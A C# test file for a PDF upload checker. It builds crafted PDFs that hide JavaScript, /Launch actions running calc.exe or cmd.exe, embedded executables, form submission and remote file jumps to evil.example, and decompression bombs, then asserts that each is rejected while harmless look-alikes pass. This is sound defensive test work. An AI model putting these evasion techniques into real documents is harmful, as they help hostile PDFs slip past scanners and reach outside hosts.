using System.Text;
using CoachHub.App.Hosting.Demo;
using CoachHub.App.Integrations.Pdf;
using CoachHub.Domain.Documents;
using CoachHub.Tests.Support;

namespace CoachHub.Tests.Documents;

public sealed class PdfCheckTests
{
    private const string Script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

    // What must not get in, and what is said of it.
    private static readonly Dictionary<string, (Func<byte[]> Make, string Problem)> Harmful = new()
    {
        ["script in the names tree"] = (() => new PdfFile { Catalog = "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>" }.With(Script).ToBytes(), "document.script"),
        ["script on opening"] = (() => new PdfFile { Catalog = "/OpenAction 4 0 R" }.With(Script).ToBytes(), "document.script"),
        ["script on opening, in place"] = (() => new PdfFile { Catalog = $"/OpenAction {Script}" }.ToBytes(), "document.script"),
        ["script in additional actions"] = (() => new PdfFile { Page = $"/AA << /O {Script} >>" }.ToBytes(), "document.script"),
        ["script in an annotation"] = (() => new PdfFile { Page = $"/Annots [<< /Subtype /Link /A {Script} >>]" }.ToBytes(), "document.script"),
        ["script with an escaped name"] = (() => new PdfFile().With("<< /S /J#61va#53cript /J#53 (x) >>").ToBytes(), "document.script"),
        ["script whose name is another object"] = (() => new PdfFile { Catalog = "/OpenAction << /S 4 0 R >>" }.With("/JavaScript").ToBytes(), "document.script"),
        ["script in an object stream"] = (() => new PdfFile { Catalog = "/OpenAction 20 0 R" }.With(PdfFile.Packed([Script])).ToBytes(), "document.script"),
        ["script in an object stream that is not compressed"] = (() => new PdfFile().With(PdfFile.Packed([Script], compressed: false)).ToBytes(), "document.script"),
        ["script in an object stream without its type"] = (() => new PdfFile().With(PdfFile.Packed([Script], type: "")).ToBytes(), "document.script"),
        ["script in an object stream with an escaped type"] = (() => new PdfFile().With(PdfFile.Packed([Script], type: "/Type /Obj#53tm")).ToBytes(), "document.script"),
        ["script in a text of an object stream, where its table points"] = (() => new PdfFile().With(HiddenInText()).ToBytes(), "document.script"),
        ["script after an odd generation number"] = (() => Latin("%PDF-1.7\n", PdfFile.Plain(), $"\n5 0 %\nobj {Script} endobj\nstartxref\n0\n%%EOF\n"), "document.script"),
        ["script hidden in another object's text"] = (() => new PdfFile().With($"( 9 0 obj {Script} endobj )").ToBytes(), "document.script"),
        ["script hidden in a stream that is no object stream"] = (() => new PdfFile().With(PdfFile.Stream("", $"9 0 obj {Script} endobj")).ToBytes(), "document.script"),
        ["script behind a word in a dictionary"] = (() => new PdfFile().With("<< /A endobj /S /JavaScript >>").ToBytes(), "document.script"),
        ["script in an object that was replaced since"] = (() => Latin("", new PdfFile().With(Script).ToBytes(), "4 0 obj null endobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"), "document.script"),
        ["script of a three-dimensional scene"] = (() => new PdfFile().With("<< /Type /3D /OnInstantiate 5 0 R >>").ToBytes(), "document.script"),
        ["launch of a program"] = (() => new PdfFile { Catalog = "/OpenAction << /S /Launch /F (calc.exe) >>" }.ToBytes(), "document.launch"),
        ["launch from an object stream"] = (() => new PdfFile().With(PdfFile.Packed(["<< /S /Launch /Win << /F (cmd.exe) >> >>"])).ToBytes(), "document.launch"),
        ["file in the names tree"] = (() => new PdfFile { Catalog = "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>" }.With("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>").ToBytes(), "document.embedded"),
        ["file on a page"] = (() => new PdfFile { Page = "/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]" }.ToBytes(), "document.embedded"),
        ["file as a stream"] = (() => new PdfFile().With(PdfFile.Stream("/Type /EmbeddedFile", "MZ")).ToBytes(), "document.embedded"),
        ["form that is sent"] = (() => new PdfFile { Page = "/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>" }.ToBytes(), "document.active"),
        ["form in XML"] = (() => new PdfFile { Catalog = "/AcroForm << /XFA 4 0 R >>" }.ToBytes(), "document.active"),
        ["jump into a file elsewhere"] = (() => new PdfFile { Catalog = "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>" }.ToBytes(), "document.active"),
        ["encryption"] = (() => new PdfFile { Trailer = "/Encrypt 4 0 R" }.With("<< /Filter /Standard /V 4 /R 4 >>").ToBytes(), "document.encrypted"),
        ["encryption named in a stream of references"] = (() => new PdfFile().With(PdfFile.Stream("/Type /XRef /Root 1 0 R /Encrypt 9 0 R", "x")).ToBytes(), "document.encrypted"),
        ["renamed program"] = (() => [.. "MZ\u0090\0\u0003"u8, .. new byte[2000]], "document.not_pdf"),
        ["header further down"] = (() => Latin("GIF89a", PdfFile.Plain(), ""), "document.not_pdf"),
        ["nothing"] = (() => [], "document.not_pdf"),
        ["header and no more"] = (() => [.. "%PDF-1.7\n%%EOF\n"u8], "document.unreadable"),
        ["first half"] = (() => PdfFile.OfSize(20_000)[..10_000], "document.unreadable"),
        ["no page"] = (() => Latin("", Without(PdfFile.Plain(), "/Type /Page "), ""), "document.unreadable"),
        ["no catalog"] = (() => Latin("", Without(PdfFile.Plain(), "/Root 1 0 R"), ""), "document.unreadable"),
        ["object stream in a filter that is not looked through"] = (() => new PdfFile().With(PdfFile.Packed([Script], compressed: false, more: "/Filter /ASCIIHexDecode")).ToBytes(), "document.unreadable"),
        ["object stream in two filters"] = (() => new PdfFile().With(PdfFile.Packed([Script], compressed: false, more: "/Filter [/ASCII85Decode /FlateDecode]")).ToBytes(), "document.unreadable"),
        ["object stream whose filter is named elsewhere"] = (() => new PdfFile().With(PdfFile.Packed([Script], compressed: false, more: "/Filter 8 0 R")).ToBytes(), "document.unreadable"),
        ["object stream with a predictor"] = (() => new PdfFile().With(PdfFile.Packed([Script], compressed: false, more: "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")).ToBytes(), "document.unreadable"),
        ["object stream with two counts"] = (() => new PdfFile().With(PdfFile.Packed(["null", Script], more: "/N 1")).ToBytes(), "document.unreadable"),
        ["object stream that is not what it says"] = (() => new PdfFile().With(PdfFile.Stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", "no zlib")).ToBytes(), "document.unreadable"),
        ["object stream that unpacks to gigabytes"] = (() => new PdfFile().With(PdfFile.Stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", PdfFile.Deflated(new byte[80 * 1024 * 1024]))).ToBytes(), "document.unreadable"),
        ["endless nesting"] = (() => new PdfFile().With(new string('[', 200_000)).ToBytes(), "document.unreadable"),
        ["objects within objects within objects"] = (() => new PdfFile().With(string.Concat(Enumerable.Repeat("1 0 obj (", 60_000))).ToBytes(), "document.unreadable"),
    };

    public static TheoryData<string> HarmfulNames => [.. Harmful.Keys];

    [Theory]
    [MemberData(nameof(HarmfulNames))]
    public void Check_HarmfulOrBroken_IsRefusedBySayingWhat(string name)
    {
        var (make, problem) = Harmful[name];

        Assert.Equal(problem, new PdfCheck().Check(make())?.Code);
    }

    // What people have, and what merely looks like the above.
    public static TheoryData<string, byte[]> Harmless => new()
    {
        { "plain", PdfFile.Plain() },
        { "worksheet of the demo practice", DemoPdf.Write("Goals (2027)", ["One \\ two"]) },
        { "opens at a page", new PdfFile { Catalog = "/OpenAction [3 0 R /FitH null]" }.ToBytes() },
        { "links to the web", new PdfFile { Page = "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org/JavaScript) >> >>]" }.ToBytes() },
        { "about JavaScript", new PdfFile { Trailer = "/Info 4 0 R" }.With("<< /Title (HTML /JavaScript /Launch) /Subject <2F4A53> >>").ToBytes() },
        { "words in metadata", new PdfFile().With(PdfFile.Stream("/Type /Metadata", "<dc:title>/JavaScript /EmbeddedFiles</dc:title>")).ToBytes() },
        { "words in a comment", new PdfFile().With("% /JavaScript\nnull").ToBytes() },
        { "objects in a stream", new PdfFile().With(PdfFile.Packed(["<< /Type /Font >>", "[1 2 3]"])).ToBytes() },
        { "form to fill in", new PdfFile { Catalog = "/AcroForm << /Fields [4 0 R] >>" }.With("<< /FT /Tx /T (name) >>").ToBytes() },
        { "two versions", Latin("", PdfFile.Plain(), "3 0 obj << /Type /Page /Parent 2 0 R >> endobj\ntrailer << /Root 1 0 R /Prev 9 >>\nstartxref\n0\n%%EOF\n") },
    };

    [Theory]
    [MemberData(nameof(Harmless))]
    public void Check_Harmless_Passes(string name, byte[] content) => Assert.True(new PdfCheck().Check(content) is null, name);

    [Fact]
    public void Check_LargestFileOfRandomBytes_EndsSoon()
    {
        var noise = new byte[FileStore.LargestFile];
        new Random(7).NextBytes(noise);
        "%PDF-1.7\n"u8.CopyTo(noise);
        var started = System.Diagnostics.Stopwatch.GetTimestamp();

        Assert.NotNull(new PdfCheck().Check(noise));

        Assert.True(System.Diagnostics.Stopwatch.GetElapsedTime(started) < TimeSpan.FromSeconds(10));
    }

    private static string HiddenInText()
    {
        var text = $"({Script})";
        return PdfFile.Stream("/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode", PdfFile.Deflated(Encoding.Latin1.GetBytes($"20 1  {text}")));
    }

    private static byte[] Without(byte[] file, string words) => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(file).Replace(words, "", StringComparison.Ordinal));

    private static byte[] Latin(string before, byte[] file, string after) => [.. Encoding.Latin1.GetBytes(before), .. file, .. Encoding.Latin1.GetBytes(after)];
}
